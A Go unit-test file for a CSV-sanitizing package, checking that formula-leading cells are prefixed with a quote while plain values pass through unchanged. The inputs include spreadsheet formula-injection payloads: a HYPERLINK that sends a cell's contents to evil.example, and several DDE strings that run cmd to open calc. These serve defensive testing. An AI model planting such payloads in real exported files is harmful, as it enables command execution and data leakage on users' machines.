package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"@SUM(1+1)*cmd|' /C calc'!A0":                    "'@SUM(1+1)*cmd|' /C calc'!A0",
		"+1+cmd|' /C calc'!A0":                           "'+1+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0":                         "'-2+3+cmd|' /C calc'!A0",
		"\t=1+1":                                         "'\t=1+1",
		"\r=1+1":                                         "'\r=1+1",
		"-5":                                             "-5",
		"+1.5":                                           "+1.5",
		"plain text":                                     "plain text",
		"2027-05-01":                                     "2027-05-01",
		"":                                               "",
		"a=b":                                            "a=b",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestWriterReadsBack: what Writer writes reads back, through an
// independent CSV reader, with the quote in front of the formula.
func TestWriterReadsBack(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	w.WriteAll([][]string{{"id", "note"}, {"ev-1", "=cmd|' /C calc'!A0"}})
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(recs) != 2 || recs[1][1] != "'=cmd|' /C calc'!A0" {
		t.Fatalf("read back %q, %v", recs, err)
	}
}
